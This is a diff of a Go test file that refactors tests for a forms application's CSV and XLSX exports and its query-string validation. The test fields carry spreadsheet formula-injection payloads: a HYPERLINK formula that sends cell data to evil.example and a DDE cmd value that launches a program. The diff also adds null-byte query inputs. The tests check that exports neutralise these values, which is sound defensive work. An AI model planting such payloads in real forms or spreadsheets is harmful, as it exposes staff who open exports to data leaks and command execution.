@@ -1,7 +1,9 @@
-package app
+package forms_test
 
 import (
 	"encoding/csv"
+	"gerege/app"
+	"gerege/app/apitest"
 	"io"
 	"net/http"
 	"strings"
@@ -11,7 +13,7 @@ import (
 )
 
 // deskLogin signs in a new forms-desk account of level staff (2 sees sensitive fields).
-func deskLogin(t *testing.T, s *Server, ts interface{ Close() }, url, email string, staff int) *http.Client {
+func deskLogin(t *testing.T, s *app.Server, ts interface{ Close() }, url, email string, staff int) *http.Client {
 	t.Helper()
 	c := staffClient(t, s, ts, url, email, false, staff)
 	res, err := c.Post(url+"/api/web/auth/login", "application/json",
@@ -31,7 +33,8 @@ func deskLogin(t *testing.T, s *Server, ts interface{ Close() }, url, email stri
 // plain number such as a phone number stays as it is. In XLSX every value is a string cell,
 // never a formula.
 func TestExportNeutralisesFormulas(t *testing.T) {
-	s, ts := newTestServer(t)
+	t.Parallel()
+	s, ts := apitest.NewServer(t)
 	hostile := map[string]string{
 		"firstName":    `=HYPERLINK("http://evil.example/?x="&A1,"Click")`,
 		"lastName":     "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -43,14 +46,14 @@ func TestExportNeutralisesFormulas(t *testing.T) {
 	for k, v := range hostile {
 		body[k] = v
 	}
-	mustStatus(t, call(t, nil, ts, "POST", "/api/forms/contact", body, ""), 201)
+	apitest.MustStatus(t, apitest.Call(t, nil, ts, "POST", "/api/forms/contact", body, ""), 201)
 	desk := deskLogin(t, s, ts, ts.URL, "desk@example.mn", 1)
 
-	res := do(t, ts, "GET", "/api/admin/forms/contact/export.csv", "", map[string]string{"Cookie": cookieOf(desk, ts.URL)})
-	if res.status != 200 {
-		t.Fatalf("csv: %d %s", res.status, res.body)
+	res := apitest.Do(t, ts, "GET", "/api/admin/forms/contact/export.csv", "", map[string]string{"Cookie": cookieOf(desk, ts.URL)})
+	if res.Status != 200 {
+		t.Fatalf("csv: %d %s", res.Status, res.Raw)
 	}
-	recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(res.body, "\uFEFF"))).ReadAll()
+	recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(res.Raw, "\uFEFF"))).ReadAll()
 	if err != nil || len(recs) != 2 {
 		t.Fatalf("csv: %v, %d rows", err, len(recs))
 	}
@@ -74,16 +77,16 @@ func TestExportNeutralisesFormulas(t *testing.T) {
 		return n
 	}
 	before := exports()
-	if h := do(t, ts, "HEAD", "/api/admin/forms/contact/export.csv", "", map[string]string{"Cookie": cookieOf(desk, ts.URL)}); h.status != 200 ||
-		h.header.Get("Content-Disposition") == "" || exports() != before {
-		t.Errorf("HEAD export: %d %q, audited %d→%d", h.status, h.header.Get("Content-Disposition"), before, exports())
+	if h := apitest.Do(t, ts, "HEAD", "/api/admin/forms/contact/export.csv", "", map[string]string{"Cookie": cookieOf(desk, ts.URL)}); h.Status != 200 ||
+		h.Header.Get("Content-Disposition") == "" || exports() != before {
+		t.Errorf("HEAD export: %d %q, audited %d→%d", h.Status, h.Header.Get("Content-Disposition"), before, exports())
 	}
 
-	x := do(t, ts, "GET", "/api/admin/forms/contact/export.xlsx", "", map[string]string{"Cookie": cookieOf(desk, ts.URL)})
-	if x.status != 200 {
-		t.Fatalf("xlsx: %d", x.status)
+	x := apitest.Do(t, ts, "GET", "/api/admin/forms/contact/export.xlsx", "", map[string]string{"Cookie": cookieOf(desk, ts.URL)})
+	if x.Status != 200 {
+		t.Fatalf("xlsx: %d", x.Status)
 	}
-	f, err := excelize.OpenReader(strings.NewReader(x.body))
+	f, err := excelize.OpenReader(strings.NewReader(x.Raw))
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -124,21 +127,22 @@ func getFull(t *testing.T, c *http.Client, url string) (*http.Response, string, 
 // without the attachment headers; a failure in the middle breaks the download so it cannot
 // be mistaken for a complete file.
 func TestExportFailuresAreVisible(t *testing.T) {
-	s, ts := newTestServer(t)
-	mustStatus(t, call(t, nil, ts, "POST", "/api/forms/volunteer", volunteerBody("Сараа", "saraa@example.mn"), ""), 201)
+	t.Parallel()
+	s, ts := apitest.NewServer(t)
+	apitest.MustStatus(t, apitest.Call(t, nil, ts, "POST", "/api/forms/volunteer", apitest.VolunteerBody("Сараа", "saraa@example.mn"), ""), 201)
 	sens := deskLogin(t, s, ts, ts.URL, "sens@example.mn", 2)
 
 	base := "/api/admin/forms/volunteer/"
 	for _, p := range []string{"submissions", "export.csv", "export.xlsx"} {
 		for _, q := range []string{"abc%00", "%00", "ab%01c", "%FF%FEabc"} {
-			r := call(t, sens, ts, "GET", base+p+"?q="+q, nil, "", "Accept-Language", "mn")
-			if r.status != 422 || r.str("errors", "q") != "Энд ашиглах боломжгүй тэмдэгт орсон байна." || r.header.Get("Content-Disposition") != "" {
-				t.Errorf("%s?q=%s: %d %s %q", p, q, r.status, r.raw, r.header.Get("Content-Disposition"))
+			r := apitest.Call(t, sens, ts, "GET", base+p+"?q="+q, nil, "", "Accept-Language", "mn")
+			if r.Status != 422 || r.Str("errors", "q") != "Энд ашиглах боломжгүй тэмдэгт орсон байна." || r.Header.Get("Content-Disposition") != "" {
+				t.Errorf("%s?q=%s: %d %s %q", p, q, r.Status, r.Raw, r.Header.Get("Content-Disposition"))
 			}
 		}
 		for _, q := range []string{"country=%00", "after=%00|1", "status=%00", "from=%00", "sort=%00"} {
-			if r := call(t, sens, ts, "GET", base+p+"?"+q, nil, ""); r.status >= 500 {
-				t.Errorf("%s?%s: %d %s", p, q, r.status, r.raw)
+			if r := apitest.Call(t, sens, ts, "GET", base+p+"?"+q, nil, ""); r.Status >= 500 {
+				t.Errorf("%s?%s: %d %s", p, q, r.Status, r.Raw)
 			}
 		}
 	}
@@ -156,7 +160,7 @@ func TestExportFailuresAreVisible(t *testing.T) {
 	// A failure in the middle: enough rows that the export is under way, the last unreadable.
 	s.Store().Write.Exec(`DELETE FROM submissions_search`)
 	s.Store().Write.Exec(`DELETE FROM submissions`)
-	mustStatus(t, call(t, nil, ts, "POST", "/api/forms/volunteer", volunteerBody("Болд", "bold@example.mn"), ""), 201)
+	apitest.MustStatus(t, apitest.Call(t, nil, ts, "POST", "/api/forms/volunteer", apitest.VolunteerBody("Болд", "bold@example.mn"), ""), 201)
 	if _, err := s.Store().Write.Exec(`WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 1000)
 		INSERT INTO submissions (form, reference, lang, name, email, country, data, sensitive, created_at, updated_at)
 		SELECT form, reference || '-' || i, lang, name, email, country, data, sensitive, created_at, updated_at FROM submissions, n`); err != nil {
